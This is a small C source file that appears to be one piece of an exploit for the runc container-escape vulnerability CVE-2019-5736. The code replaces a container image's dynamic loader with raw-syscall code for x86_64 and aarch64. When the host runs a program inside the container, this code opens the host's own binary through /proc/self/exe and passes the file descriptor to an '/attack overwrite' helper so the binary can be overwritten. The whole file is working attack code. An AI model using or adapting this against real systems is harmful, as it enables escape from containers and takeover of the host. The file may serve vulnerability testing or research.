/* Stands in for the dynamic loader of an image: whoever executes a dynamic program of the host in there runs this instead. It keeps the
   program's file open and hands it to /attack (CVE-2019-5736). No libc: it runs with another program's auxiliary vector. */
static long call(long number, long a, long b, long c) {
    long result;
#ifdef __x86_64__
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#else
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    result = x0;
#endif
    return result;
}

void _start(void) {
#ifdef __x86_64__
    long fd = call(2, (long)"/proc/self/exe", 0, 0);
    const long execve_ = 59, exit_ = 60;
#else
    register long x3 __asm__("x3") = 0;
    (void)x3;
    long fd = call(56, -100, (long)"/proc/self/exe", 0);
    const long execve_ = 221, exit_ = 93;
#endif
    char number[2] = { (char)('0' + (fd < 0 ? 9 : fd)), 0 };
    const char *arguments[] = { "/attack", "overwrite", number, 0 };
    call(execve_, (long)arguments[0], (long)arguments, 0);
    call(exit_, 99, 0, 0);
}
